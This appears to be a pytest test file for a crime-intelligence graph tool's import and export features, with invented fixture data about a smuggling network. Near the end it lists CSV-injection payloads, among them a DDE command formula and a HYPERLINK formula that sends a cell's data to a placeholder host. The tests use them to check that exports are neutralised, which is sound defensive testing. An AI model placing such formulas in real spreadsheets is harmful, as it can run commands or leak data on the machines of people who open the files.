"""Imports and exports: a file goes in whole or not at all, says where each problem is, never
overwrites a stored fact, can be traced to its Dataset, and an export imports back unchanged."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from graph.cli.main import main
from graph.core.errors import InvalidInput
from graph.core.settings import Settings
from graph.db.store import Store
from graph.formats.export import FTM_EXTENSION, to_admin_csv
from graph.growth.imports import (
    ImportOptions,
    ImportPlan,
    ImportRejected,
    ImportSource,
    export_graph,
    json_too_deep,
    render_export,
    run_import,
    split_csv_list,
    write_plan,
)
from graph.model.schema import Model
from tests.conftest import totals

DOC = "document-leak-1"
DOC_TEXT = "Carlos Mendes leads the Harbour Crew, a smuggling network, the report says."


def dump(store: Store) -> list[dict[str, Any]]:
    return store.run("canonical_dump")


def without_bookkeeping(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The graph apart from what an import adds by design: the Dataset record, and the
    dataset's id in every node's and relationship's `dataset_ids`."""
    kept = []
    for row in rows:
        if "Dataset" in row["labels"]:
            continue
        props = {k: v for k, v in row["properties"].items() if k != "dataset_ids"}
        kept.append({**row, "properties": props})
    return kept


def ftm_lines(entities: list[dict[str, Any]]) -> bytes:
    return "".join(json.dumps(e) + "\n" for e in entities).encode("utf-8")


def ftm(entity_id: str, schema: str, **props: Any) -> dict[str, Any]:
    values = {k: v if isinstance(v, list) else [v] for k, v in props.items()}
    return {"id": entity_id, "schema": schema, "properties": values}


def ftm_document(doc_id: str = DOC, text: str = DOC_TEXT) -> dict[str, Any]:
    return ftm(doc_id, "Document", title="Leaked report", bodyText=text, retrievedAt="2026-11-01")


def plain_dataset(prefix: str = "") -> bytes:
    """A person, a network and a membership in plain FtM (no crimegraph key)."""
    proof = {"proof": f"{prefix}{DOC}"}
    return ftm_lines(
        [
            ftm_document(f"{prefix}{DOC}"),
            ftm(
                f"{prefix}p-1",
                "Person",
                name="Carlos Mendes",
                alias=["El Puerto"],
                birthDate="1980",
                summary="Carlos Mendes leads the Harbour Crew",
                **proof,
            ),
            ftm(
                f"{prefix}o-1",
                "Organization",
                name="Harbour Crew",
                keywords="CriminalNetwork",
                summary="the Harbour Crew, a smuggling network",
                **proof,
            ),
            ftm(
                f"{prefix}m-1",
                "Membership",
                member=f"{prefix}p-1",
                organization=f"{prefix}o-1",
                role="leader",
                summary="Carlos Mendes leads the Harbour Crew",
                **proof,
            ),
        ]
    )


def rejected(store: Store, model: Model, data: bytes, name: str, **kw: Any) -> ImportRejected:
    with pytest.raises(ImportRejected) as caught:
        run_import(store, model, data, file_name=name, imported_by="test", **kw)
    return caught.value


# --- round trips -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["ftm", "csv"])
def test_export_then_import_into_an_empty_graph_gives_the_same_graph(
    seeded_store: Store, model: Model, fmt: str
) -> None:
    store = seeded_store
    before = dump(store)
    content, _, file_name = render_export(export_graph(store), fmt, model)
    store.run("clear_graph")

    result = run_import(store, model, content, file_name=file_name, imported_by="test")

    assert result.created and result.dataset["format"] == fmt
    after = dump(store)
    assert without_bookkeeping(after) == before
    dataset_id = result.dataset["id"]
    items = [row for row in after if "Dataset" not in row["labels"]]
    assert all(row["properties"]["dataset_ids"] == [dataset_id] for row in items)
    assert (result.dataset["nodes"], result.dataset["relationships"]) == totals(store)

    # The same file again: nothing is written, the first import's record comes back.
    again = run_import(store, model, content, file_name="renamed", imported_by="other")
    assert not again.created and again.dataset == result.dataset
    assert dump(store) == after


def test_export_of_an_imported_graph_imports_back_over_itself(store: Store, model: Model) -> None:
    run_import(store, model, plain_dataset(), file_name="a.ftm.jsonl", imported_by="test")
    content, _, _ = render_export(export_graph(store), "ftm", model)
    before = dump(store)
    result = run_import(store, model, content, file_name="again.jsonl", imported_by="test")
    assert result.created and result.dataset["new_nodes"] == 0
    after = without_bookkeeping(dump(store))
    assert after == without_bookkeeping(before)
    person = next(r for r in dump(store) if r["id"] == "p-1")
    assert len(person["properties"]["dataset_ids"]) == 2  # traced to both imports


def test_every_exported_entity_carries_the_crimegraph_key(
    seeded_module: Store, model: Model
) -> None:
    snapshot = export_graph(seeded_module)
    content, media_type, _ = render_export(snapshot, "ftm", model)
    assert media_type == "application/x-ndjson"
    lines = [json.loads(line) for line in content.decode().splitlines()]
    assert len(lines) == len(snapshot["nodes"]) + len(snapshot["relationships"])
    node = next(x for x in lines if x["schema"] == "Person")
    assert set(node[FTM_EXTENSION]) == {"labels", "properties"}
    assert "search_text" not in node[FTM_EXTENSION]["properties"]
    link = next(x for x in lines if "type" in x[FTM_EXTENSION])
    assert set(link[FTM_EXTENSION]) == {"type", "from", "to", "properties"}


# --- formats ----------------------------------------------------------------------------------


def test_plain_ftm_maps_schemata_properties_and_provenance(store: Store, model: Model) -> None:
    result = run_import(
        store, model, plain_dataset(), file_name="leak.ftm.jsonl", imported_by="analyst-1"
    )
    ds = result.dataset
    assert (ds["nodes"], ds["relationships"], ds["imported_by"]) == (3, 1, "analyst-1")
    assert result.ignored == {"Person.birthDate": 1}  # no place for it in the model: said so
    rows = {r["id"]: r for r in dump(store)}
    person, network, doc = rows["p-1"], rows["o-1"], rows[DOC]
    assert person["labels"] == ["Entity", "Person"]
    assert network["labels"] == ["CriminalNetwork", "Entity", "Organization"]  # keywords
    assert doc["labels"] == ["Document", "Entity"]
    assert person["properties"]["aliases"] == ["El Puerto"]
    assert person["properties"]["search_text"] == "carlos mendes\nel puerto"
    assert person["properties"]["source_ids"] == [DOC]
    assert person["properties"]["quote"] == "Carlos Mendes leads the Harbour Crew"
    assert (person["properties"]["reliability"], person["properties"]["credibility"]) == ("F", 6)
    assert person["properties"]["dataset_ids"] == [ds["id"]]
    assert doc["properties"]["text"] == DOC_TEXT and doc["properties"]["source_ids"] == [DOC]
    membership = rows["m-1"]
    assert membership["labels"] == ["MEMBERSHIP"] and membership["properties"]["role"] == "leader"
    assert (membership["from_id"], membership["to_id"]) == ("p-1", "o-1")
    assert [d["id"] for d in store.run("datasets", {"limit": 10})] == [ds["id"]]


def test_rows_without_provenance_need_a_source_document(store: Store, model: Model) -> None:
    data = ftm_lines(
        [ftm_document(), ftm("p-9", "Person", name="No Source"), ftm("p-8", "Person", name="B")]
    )
    error = rejected(store, model, data, "bare.jsonl")
    fields = {(d["line"], d["field"]) for d in error.details}
    assert fields == {(2, "properties.proof"), (3, "properties.proof")}
    assert totals(store) == (0, 0)

    options = ImportOptions(source_document=DOC, grading="C3", confidence=40)
    result = run_import(store, model, data, file_name="bare.jsonl", options=options)
    person = next(r for r in dump(store) if r["id"] == "p-9")["properties"]
    assert person["source_ids"] == [DOC] and person["quote"] == "Leaked report"
    assert (person["reliability"], person["credibility"], person["confidence"]) == ("C", 3, 40)
    assert result.dataset["options"] == {  # other options, another dataset
        "source_document": DOC,
        "grading": "C3",
        "confidence": 40,
    }


def test_csv_files_per_label_and_type(store: Store, model: Model, tmp_path: Path) -> None:
    files = {
        "Document.csv": (
            "id,name,title,text,retrieved,grading\n"
            f'{DOC},Leak,Leaked report,"{DOC_TEXT}",2026-11-01,B2\n'
        ),
        "Person.csv": (
            "id,name,aliases,source_ids,quote,confidence,grading\n"
            f"p-1,Carlos Mendes,El Puerto|C\\|M,{DOC},Carlos Mendes leads the Harbour Crew,80,B2\n"
        ),
        "CriminalNetwork.csv": (
            "id,name,activities,source_ids,quote,confidence,reliability,credibility\n"
            f"n-1,Harbour Crew,smuggling|extortion,{DOC},the Harbour Crew,70,B,3\n"
        ),
        "Attack.csv": (
            "id,name,date,source_ids,quote,confidence,grading\n"
            f"a-1,Port attack,2024-04,{DOC},the report says,60,C3\n"
            f"a-2,Dock attack,2024-04-12,{DOC},the report says,60,C3\n"
        ),
        "MEMBERSHIP.csv": (
            "from,to,role,source_ids,quote,confidence,grading\n"
            f"p-1,n-1,leader,{DOC},Carlos Mendes leads the Harbour Crew,80,B2\n"
        ),
    }
    folder = tmp_path / "crew"
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")

    result = run_import(store, model, ImportSource.from_path(folder), imported_by="test")

    assert result.dataset["format"] == "csv" and result.dataset["file_name"] == "crew"
    rows = {r["id"]: r for r in dump(store)}
    person = rows["p-1"]["properties"]
    assert person["aliases"] == ["El Puerto", "C|M"]  # `\|` is a bar inside a value
    assert (person["confidence"], person["reliability"], person["credibility"]) == (80, "B", 2)
    assert person["quotes"] == ["Carlos Mendes leads the Harbour Crew"]
    assert rows["n-1"]["properties"]["activities"] == ["smuggling", "extortion"]
    assert rows["a-1"]["properties"]["date_precision"] == "month"
    assert "date_day" not in rows["a-1"]["properties"]
    assert rows["a-2"]["properties"]["date_day"] == "2024-04-12"  # a date, as the seed stores
    assert rows[DOC]["properties"]["content_sha256"]
    membership = next(r for r in rows.values() if r["labels"] == ["MEMBERSHIP"])
    assert (membership["from_id"], membership["to_id"]) == ("p-1", "n-1")


def test_csv_problems_name_file_line_and_column(store: Store, model: Model) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("Person.csv", f"id,name,confidence,source_ids,quote\np-1,A,high,{DOC},q\n")
        zf.writestr("Facility.csv", f"id,name,source_ids,quote\nf-1,Fresnes,{DOC},q\n")
        zf.writestr("Prisons.csv", "id,name\n")
    error = rejected(store, model, archive.getvalue(), "bad.zip")
    problems = {(d["file"], d["line"], d["field"]) for d in error.details}
    assert ("bad.zip/Person.csv", 2, "confidence") in problems
    assert ("bad.zip/Person.csv", 2, "source_ids") in problems  # no such document
    assert ("bad.zip/Facility.csv", 2, "facility_type") in problems  # required
    assert ("bad.zip/Prisons.csv", None, "-") in problems  # names no label
    assert totals(store) == (0, 0)


def test_snapshot_json_imports(seeded_store: Store, model: Model) -> None:
    snapshot = export_graph(seeded_store)
    before = dump(seeded_store)
    seeded_store.run("clear_graph")
    data = json.dumps(snapshot).encode()
    result = run_import(seeded_store, model, data, file_name="graph.json", imported_by="t")
    assert result.dataset["format"] == "snapshot"
    assert without_bookkeeping(dump(seeded_store)) == before


def test_list_cells_split_on_unescaped_bars() -> None:
    assert split_csv_list("a|b") == ["a", "b"]
    assert split_csv_list(r"a\|b|c") == ["a|b", "c"]
    assert split_csv_list("a\\\\|b") == ["a\\", "b"]


# --- all or nothing ---------------------------------------------------------------------------


def test_one_bad_row_in_ten_thousand_rejects_the_file(seeded_store: Store, model: Model) -> None:
    entities = [ftm_document()]
    for i in range(5000):
        entities.append(ftm(f"bulk-p-{i}", "Person", name=f"Person {i}", proof=DOC, summary="q"))
    for i in range(4999):
        end = f"bulk-p-{i + 1}" if i != 3000 else "bulk-p-missing"
        entities.append(
            ftm(
                f"bulk-a-{i}",
                "Associate",
                person=f"bulk-p-{i}",
                associate=end,
                proof=DOC,
                summary="q",
            )
        )
    assert len(entities) == 10_000
    bad_line = 1 + 5000 + 3000 + 1
    before = dump(seeded_store)

    error = rejected(seeded_store, model, ftm_lines(entities), "bulk.ftm.jsonl")

    assert error.details == [
        {
            "file": "bulk.ftm.jsonl",
            "line": bad_line,
            "field": "properties.associate",
            "message": "no entity 'bulk-p-missing' in the file or the graph",
        }
    ]
    assert f"bulk.ftm.jsonl: line {bad_line}: properties.associate" in error.message
    assert dump(seeded_store) == before


def test_many_problems_are_reported_up_to_a_bound(store: Store, model: Model) -> None:
    data = ftm_lines([ftm(f"x-{i}", "Person") for i in range(80)])
    error = rejected(store, model, data, "many.jsonl")
    assert len(error.details) == 50
    assert "... and" in error.message and "160 problem(s)" in error.message


def test_a_stored_fact_is_never_overwritten(seeded_store: Store, model: Model) -> None:
    amra = seeded_store.run("search_entities", {"q": "amra", "label": "Person", "limit": 1})[0]
    stored = next(r for r in dump(seeded_store) if r["id"] == amra["id"])["properties"]
    doc_id = stored["source_ids"][0]
    before = dump(seeded_store)

    clash = ftm_lines([ftm(amra["id"], "Person", name="Someone Else", proof=doc_id, summary="q")])
    error = rejected(seeded_store, model, clash, "clash.jsonl")
    assert error.details[0]["field"] == "properties.name"
    assert (
        f"exists with name {stored['name']!r}; the file says 'Someone Else'"
        in (error.details[0]["message"])
    )
    assert dump(seeded_store) == before

    # The same facts from another source: the provenance lists grow, nothing else changes.
    same = ftm_lines(
        [
            ftm_document(),
            ftm(
                amra["id"],
                "Person",
                name=stored["name"],
                alias=stored.get("aliases", []),
                proof=DOC,
                summary="He escaped.",
            ),
        ]
    )
    result = run_import(seeded_store, model, same, file_name="same.jsonl", imported_by="t")
    assert (result.dataset["nodes"], result.dataset["new_nodes"]) == (2, 1)
    after = next(r for r in dump(seeded_store) if r["id"] == amra["id"])["properties"]
    assert after["source_ids"] == [*stored["source_ids"], DOC]
    assert after["quotes"] == [*stored["quotes"], "He escaped."]
    assert after["dataset_ids"] == [result.dataset["id"]]
    assert {k: v for k, v in after.items() if k not in ("source_ids", "quotes", "dataset_ids")} == {
        k: v for k, v in stored.items() if k not in ("source_ids", "quotes")
    }


def test_a_stored_relationship_id_with_other_ends_is_refused(store: Store, model: Model) -> None:
    run_import(store, model, plain_dataset(), file_name="a.jsonl", imported_by="t")
    before = dump(store)
    data = ftm_lines(
        [
            ftm("p-2", "Person", name="Other", proof=DOC, summary="q"),
            ftm("m-1", "Membership", member="p-2", organization="o-1", proof=DOC, summary="q"),
        ]
    )
    error = rejected(store, model, data, "b.jsonl")
    assert (
        error.details[0]["line"] == 2
        and "exists as MEMBERSHIP from 'p-1'" in (error.details[0]["message"])
    )
    assert dump(store) == before


def test_unknown_format_and_bad_options_are_refused(store: Store, model: Model) -> None:
    with pytest.raises(InvalidInput):
        run_import(store, model, b"\x00\x01", file_name="data.bin")
    with pytest.raises(InvalidInput):
        run_import(store, model, plain_dataset(), options=ImportOptions(grading="Z9"))
    with pytest.raises(InvalidInput, match=r"^source_document 'nope' is no Document"):
        run_import(store, model, plain_dataset(), options=ImportOptions(source_document="nope"))


# --- command line and HTTP -------------------------------------------------------------------


def test_cli_imports_exports_and_lists(
    store: Store,
    model: Model,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("CRIMEGRAPH_DATA_DIR", str(settings.data_dir))
    if settings.neo4j_uri:
        pytest.skip("the CLI test runs on the embedded engine")
    source = tmp_path / "leak.ftm.jsonl"
    source.write_bytes(plain_dataset())
    assert main(["import", str(source)]) == 0
    out = capsys.readouterr()
    assert "3 nodes (3 new), 1 relationships (1 new)" in out.out
    assert "ignored FtM property Person.birthDate" in out.err
    before = dump(store)

    assert main(["export", "--format", "csv", "--output", str(tmp_path / "out")]) == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "README.txt",
        "nodes.csv",
        "relationships.csv",
    ]
    store.run("clear_graph")
    assert main(["import", str(tmp_path / "out")]) == 0
    assert without_bookkeeping(dump(store)) == without_bookkeeping(before)

    assert main(["import", str(tmp_path / "out")]) == 0
    assert "imported before" in capsys.readouterr().out
    assert main(["datasets", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [d["file_name"] for d in listed] == ["out"]

    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"id": "x", "schema": "Person", "properties": {}}\n')
    assert main(["import", str(bad)]) == 2
    assert "bad.jsonl: line 1: properties.name: is required for Person" in capsys.readouterr().err


def test_http_import_datasets_and_export(
    store: Store, client: TestClient, admin_token: str
) -> None:
    first = client.post("/api/v1/imports?file_name=a.ftm.jsonl", content=plain_dataset("a-"))
    assert first.status_code == 201, first.text
    summary = first.json()
    key_id = admin_token.split("_")[1]
    assert summary["created"] and summary["imported_by"] == f"test session admin (key {key_id})"
    again = client.post("/api/v1/imports?file_name=b.jsonl", content=plain_dataset("a-"))
    assert again.status_code == 200 and again.json()["created"] is False
    other = client.post("/api/v1/imports?format=ftm", content=plain_dataset("b-")).json()

    listed = client.get("/api/v1/datasets").json()
    assert {d["id"] for d in listed} == {summary["id"], other["id"]}
    one = client.get(f"/api/v1/datasets/{summary['id']}")
    assert one.status_code == 200 and one.json()["sha256"] == summary["sha256"]
    missing = client.get("/api/v1/datasets/dataset-nope")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"

    exported = client.get("/api/v1/export", params={"dataset": summary["id"]})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("application/x-ndjson")
    ids = {json.loads(line)["id"] for line in exported.text.splitlines()}
    assert ids == {f"a-{DOC}", "a-p-1", "a-o-1", "a-m-1"}  # nothing of the other dataset
    whole = client.get("/api/v1/export", params={"format": "csv"})
    assert whole.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(whole.content)) as archive:
        nodes = archive.read("nodes.csv").decode()
    assert "a-p-1" in nodes and "b-p-1" in nodes


def test_http_import_errors_share_the_error_shape(store: Store, client: TestClient) -> None:
    bad = b'{"id": "x", "schema": "Person", "properties": {"name": ["X"]}}\nnot json\n'
    response = client.post("/api/v1/imports?file_name=bad.jsonl", content=bad)
    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "import_rejected"
    assert {"file": "bad.jsonl", "line": 2, "field": "-"} in [
        {k: d[k] for k in ("file", "line", "field")} for d in error["details"]
    ]
    assert all(set(d) == {"file", "line", "field", "message"} for d in error["details"])
    assert client.post("/api/v1/imports?grading=Q7", content=bad).status_code == 422
    assert client.get("/api/v1/export?format=xml").status_code == 422
    assert client.get("/api/v1/export?dataset=dataset-nope").status_code == 404
    assert totals(store) == (0, 0)


# --- what a new user is told ------------------------------------------------------------------


def api_error(response: Any) -> dict[str, Any]:
    assert response.status_code == 422, response.text
    error: dict[str, Any] = response.json()["error"]
    return error


def csv_zip(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


def test_the_api_says_what_is_wrong_with_the_file(store: Store, client: TestClient) -> None:
    empty = api_error(client.post("/api/v1/imports", content=b""))
    assert empty["message"] == "the request body is empty: send the file's bytes"

    not_zip = api_error(client.post("/api/v1/imports?file_name=x.zip", content=b"id,name\n"))
    assert "x.zip: -: not a zip archive" in not_zip["message"]

    # The API names its parameter, not the CLI's flag.
    nope = api_error(
        client.post("/api/v1/imports?source_document=nope&format=ftm", content=plain_dataset())
    )
    assert nope["message"].startswith("source_document 'nope' is no Document")
    assert "--" not in nope["message"]
    bare = ftm_lines([ftm_document(), ftm("p-9", "Person", name="No Source")])
    unsourced = api_error(client.post("/api/v1/imports?format=ftm", content=bare))
    assert "or give source_document" in unsourced["message"]
    assert "--source-document" not in unsourced["message"]

    archive = csv_zip({"Person.csv": "id,name\np-1,A\n"})
    for fmt in ("snapshot", "ftm"):
        binary = api_error(client.post(f"/api/v1/imports?format={fmt}", content=archive))
        assert binary["details"] == [
            {
                "file": "upload",
                "line": None,
                "field": "-",
                "message": "not valid UTF-8 JSON (is it a CSV zip? use format=csv)",
            }
        ]

    stray = csv_zip({"Persons.csv": "id,name\n", "membership.csv": "id\n", "notes.csv": "a\n"})
    answer = api_error(client.post("/api/v1/imports?file_name=g.zip", content=stray))
    hints = {d["file"]: d["message"] for d in answer["details"]}
    assert hints["g.zip/Persons.csv"].endswith("(did you mean Person.csv?)")
    assert hints["g.zip/membership.csv"].endswith("(did you mean MEMBERSHIP.csv?)")
    assert hints["g.zip/notes.csv"].endswith("(e.g. Person.csv, MEMBERSHIP.csv)")
    assert totals(store) == (0, 0)


def test_the_cli_names_its_flags_and_reports_progress_once(
    store: Store,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("CRIMEGRAPH_DATA_DIR", str(settings.data_dir))
    if settings.neo4j_uri:
        pytest.skip("the CLI test runs on the embedded engine")
    source = tmp_path / "leak.ftm.jsonl"
    source.write_bytes(plain_dataset())
    assert main(["import", "--source-document", "nope", str(source)]) == 2
    assert "--source-document 'nope' is no Document" in capsys.readouterr().err
    archive = tmp_path / "graph.zip"
    archive.write_bytes(csv_zip({"Person.csv": "id,name\np-1,A\n"}))
    assert main(["import", "--format", "snapshot", str(archive)]) == 2
    assert "not valid UTF-8 JSON (is it a CSV zip? use --format csv)" in capsys.readouterr().err

    assert main(["import", str(source)]) == 0
    progress = [
        line for line in capsys.readouterr().err.splitlines() if line.startswith("import: wrote")
    ]
    # One line per write step (nodes are created a schema at a time), none repeated.
    assert progress[-2:] == [
        "import: wrote 3/3 nodes, 0/1 relationships",
        "import: wrote 3/3 nodes, 1/1 relationships",
    ]
    assert len(progress) == len(set(progress)) and progress[0].startswith("import: wrote 1/3")
    assert main(["datasets", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["options"] == {}


class RetriedStore:
    """Runs a transaction's steps twice, as Store does when the first attempt lost its
    connection before the commit."""

    def write_transaction(
        self, steps: Any, progress: Any = None, **_: Any
    ) -> list[list[dict[str, Any]]]:
        steps = list(steps)
        results: list[list[dict[str, Any]]] = []
        for _attempt in range(2):
            results = []
            for index, step in enumerate(steps):
                rows = [{"rows": len(step.params.get("rows", []))}]
                if progress is not None:
                    progress(index, step, rows)
                results.append(rows)
        return results


def test_a_retried_write_reports_its_progress_once() -> None:
    plan = ImportPlan(
        "dataset-x",
        new_nodes=[{"id": "a", "label": "Person"}, {"id": "b", "label": "Person"}],
        new_relationships=[{"id": "r", "type": "ASSOCIATE", "from": "a", "to": "b"}],
    )
    said: list[str] = []
    write_plan(RetriedStore(), plan, {"id": "dataset-x"}, said.append)  # type: ignore[arg-type]
    assert said == ["wrote 2/2 nodes, 0/1 relationships", "wrote 2/2 nodes, 1/1 relationships"]


def test_dataset_options_are_an_object_and_the_readme_says_what_was_exported(
    store: Store, model: Model, client: TestClient
) -> None:
    plain = run_import(store, model, plain_dataset("a-"), file_name="a.jsonl")
    assert plain.dataset["options"] == {}
    options = ImportOptions(source_document="a-" + DOC, grading="C3")
    bare = ftm_lines([ftm("p-9", "Person", name="No Source")])
    graded = run_import(store, model, bare, file_name="b.jsonl", options=options)
    assert graded.dataset["options"] == {"grading": "C3", "source_document": "a-" + DOC}
    again = run_import(store, model, bare, file_name="b.jsonl", options=options)
    assert not again.created and again.dataset["options"] == graded.dataset["options"]
    answer = client.get(f"/api/v1/datasets/{graded.dataset['id']}").json()
    assert answer["options"] == {"grading": "C3", "source_document": "a-" + DOC}
    assert {d["id"]: d["options"] for d in client.get("/api/v1/datasets").json()} == {
        plain.dataset["id"]: {},
        graded.dataset["id"]: {"grading": "C3", "source_document": "a-" + DOC},
    }

    whole = to_admin_csv(export_graph(store))["README.txt"]
    assert whole.startswith("crimegraph graph export of the whole graph: 4 nodes, 1 relationships")
    one = to_admin_csv(export_graph(store, graded.dataset["id"]))["README.txt"]
    assert one.startswith(f"crimegraph graph export of dataset {graded.dataset['id']}: 2 nodes")
    for readme in (whole, one):
        assert "None" not in readme and "content_hash" not in readme and "created: " in readme


# --- CSV exports a spreadsheet may open (OWASP CSV injection) ---------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1, "click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "'plain quote",
    "-",
    "a-b=c",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMERIC = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def spreadsheet_cells(content: bytes) -> list[tuple[str, str, str]]:
    """(file, column header, cell) of every CSV cell in an export zip."""
    cells = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if not name.endswith(".csv"):
                continue
            header, *rows = csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
            cells += [(name, column, column) for column in header]
            cells += [
                (name, col, cell) for row in rows for col, cell in zip(header, row, strict=True)
            ]
    return cells


def formula_graph(store: Store, model: Model) -> list[str]:
    """The seed graph, with formulas for names, aliases, a role and a negative quantity;
    returns the names given."""
    snapshot = export_graph(store)
    people = [n for n in snapshot["nodes"] if "Person" in n["labels"]]
    for person, formula in zip(people, FORMULAS, strict=False):
        person["properties"]["name"] = formula
    people[0]["properties"]["aliases"] = FORMULAS
    seizure = next(n for n in snapshot["nodes"] if "Seizure" in n["labels"])
    seizure["properties"]["quantity"] = -3
    roled = next(r for r in snapshot["relationships"] if "role" in r["properties"])
    roled["properties"]["role"] = FORMULAS[1]
    content, _, _ = render_export(snapshot, "ftm", model)
    store.run("clear_graph")
    run_import(store, model, content, file_name="formulas.jsonl", imported_by="test")
    return FORMULAS[: len(people)]


def test_csv_export_cells_start_with_no_formula_trigger(
    seeded_store: Store, model: Model, client: TestClient
) -> None:
    formula_graph(seeded_store, model)
    response = client.get("/api/v1/export", params={"format": "csv"})
    assert response.status_code == 200
    cells = spreadsheet_cells(response.content)
    assert any(cell.startswith("'=cmd|") for _, _, cell in cells)  # the formulas are there
    unsafe = [
        (name, column, cell)
        for name, column, cell in cells
        if cell.startswith(TRIGGERS)
        # A typed numeric column keeps its negative numbers: a number is no formula.
        and not (column.split(":")[-1] in ("int", "long", "double") and NUMERIC.match(cell))
    ]
    assert unsafe == []
    assert ("nodes.csv", "quantity:int", "-3") in cells


def test_csv_export_with_formulas_imports_back_unchanged(
    seeded_store: Store, model: Model, client: TestClient
) -> None:
    names = formula_graph(seeded_store, model)
    before = without_bookkeeping(dump(seeded_store))
    exported = client.get("/api/v1/export", params={"format": "csv"})
    seeded_store.run("clear_graph")

    imported = client.post("/api/v1/imports?file_name=graph.csv.zip", content=exported.content)

    assert imported.status_code == 201, imported.text
    after = without_bookkeeping(dump(seeded_store))
    assert after == before
    assert [r for r in after if r["properties"].get("aliases") == FORMULAS]
    assert {r["properties"].get("name") for r in after} >= set(names)


def nesting(value: Any) -> int:
    if isinstance(value, dict):
        return 1 + max(map(nesting, value.values()), default=0)
    if isinstance(value, list):
        return 1 + max(map(nesting, value), default=0)
    return 0


@pytest.mark.parametrize(
    "text",
    [
        '{"a": [1, {"b": "]]]}}}"}], "c": "[[[[{{{{"}',
        '["\\\\", ["\\\\\\"[[[", [[]]]]',
        '{"k\\"[": [[[["x\\\\"]]]]}',
        "[[[[[[]]]]]]",
        '[{}, {}, [], [[]], "[\\u005b"]',
    ],
)
def test_the_depth_scan_counts_what_the_parser_would(text: str) -> None:
    """Brackets inside strings, escaped quotes and escaped backslashes do not fool it."""
    depth = nesting(json.loads(text))
    assert json_too_deep(text.encode(), depth) is None
    offset = json_too_deep(text.encode(), depth - 1)
    assert offset is not None and text[offset] in "[{"
